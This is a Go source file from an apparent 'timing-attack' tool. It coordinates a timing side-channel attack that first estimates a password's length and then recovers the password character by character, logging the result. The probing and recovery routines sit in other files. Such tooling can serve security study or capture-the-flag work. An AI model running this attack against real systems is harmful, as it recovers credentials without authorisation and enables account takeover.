package attack

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"time"

	"timing-attack/internal/core"
	"timing-attack/internal/pool"
)

// HostProbe takes a snapshot of the attacking host's load
type HostProbe func(ctx context.Context) (*core.HostSnapshot, error)

// Option configures an Attacker
type Option func(a *Attacker)

// WithObserver installs a progress observer
func WithObserver(o Observer) Option {
	return func(a *Attacker) {
		a.observer = orNopObserver(o)
	}
}

// WithPoolFactory replaces the worker pool used by both stages
func WithPoolFactory(f pool.Factory) Option {
	return func(a *Attacker) {
		a.pools = f
	}
}

// WithHostProbe records the host's load at the start of every attack
func WithHostProbe(p HostProbe) Option {
	return func(a *Attacker) {
		a.host = p
	}
}

// Attacker sequences length estimation and password recovery
type Attacker struct {
	config   *core.AttackConfig
	prober   core.Prober
	logger   core.Logger
	observer Observer
	pools    pool.Factory
	host     HostProbe

	mu    sync.Mutex
	state *core.AttackState
}

// NewAttacker creates an attacker. The config must already be validated.
func NewAttacker(config *core.AttackConfig, prober core.Prober, logger core.Logger, opts ...Option) *Attacker {
	a := &Attacker{
		config:   config,
		prober:   prober,
		logger:   core.OrNop(logger),
		observer: nopObserver{},
		pools:    pool.New,
	}
	for _, opt := range opts {
		opt(a)
	}
	return a
}

// Run estimates the password length (up to maxLength, or the configured
// default when maxLength <= 0) and recovers the password. Failures carry
// the stage they happened in.
func (a *Attacker) Run(ctx context.Context, prefix, suffix string, maxLength int) (string, error) {
	if maxLength <= 0 {
		maxLength = a.config.DefaultPasswordSize
	}

	state := core.NewAttackState(a.config, prefix, suffix, maxLength)
	a.mu.Lock()
	a.state = state
	a.mu.Unlock()

	defer func() {
		state.EndTime = time.Now()
	}()

	if a.host != nil {
		if snap, err := a.host(ctx); err != nil {
			a.logger.Debugf("[attack] host snapshot unavailable: %v", err)
		} else {
			state.Host = snap
			a.logger.Infof("[attack] host load: cpu %.1f%%, memory %.1f%%, %d logical CPUs", snap.CPUPercent, snap.MemoryPercent, snap.LogicalCPUs)
		}
	}

	observer := &recorder{state: state, next: a.observer}

	estimator := NewLengthEstimator(a.config, a.prober, a.logger)
	estimator.observer = observer
	estimator.pools = a.pools

	a.logger.Infof("[attack] target %s, max length %d", state.Target(), maxLength)

	length, err := estimator.EstimateLength(ctx, prefix, suffix, maxLength, a.config.Attempts)
	if err != nil {
		state.Err = &core.StageError{Stage: core.StageLengthEstimation, Err: err}
		return "", state.Err
	}
	state.EstimatedLength = length

	a.logger.Infof("[attack] password with maximal time is of length: %d", length)

	recoverer := NewPasswordRecoverer(a.config, a.prober, a.logger)
	recoverer.observer = observer
	recoverer.pools = a.pools

	password, err := recoverer.Recover(ctx, prefix, suffix, length, a.config.Characters(), a.config.Attempts)
	if err != nil {
		state.Err = &core.StageError{Stage: core.StagePasswordRecovery, Err: err}
		return "", state.Err
	}

	state.Password = password
	state.Found = true
	a.logger.Infof("[attack] password is: %s", password)

	return password, nil
}

// TimingAttack runs the attack and never lets an error escape: on failure the
// root cause is logged and ok is false.
func (a *Attacker) TimingAttack(ctx context.Context, prefix, suffix string, maxLength int) (password string, ok bool) {
	password, err := a.Run(ctx, prefix, suffix, maxLength)
	if err != nil {
		a.logger.Infof("[attack] no password found: %s", describe(err))
		return "", false
	}
	return password, true
}

// State returns the state of the most recent run, nil before the first
func (a *Attacker) State() *core.AttackState {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.state
}

// describe renders err with the stage and candidate it is attributed to
func describe(err error) string {
	var (
		stageErr *core.StageError
		stuck    *core.StuckAtPositionError
	)

	switch {
	case errors.As(err, &stuck):
		return fmt.Sprintf("password recovery stuck at position %d after %q", stuck.Position, stuck.Prefix)
	case errors.Is(err, core.ErrNoViableLength):
		return fmt.Sprintf("length estimation failed: %v", err)
	case errors.Is(err, context.Canceled), errors.Is(err, context.DeadlineExceeded):
		if errors.As(err, &stageErr) {
			return fmt.Sprintf("%s interrupted: %v", stageErr.Stage, stageErr.Err)
		}
		return fmt.Sprintf("interrupted: %v", err)
	default:
		return err.Error()
	}
}
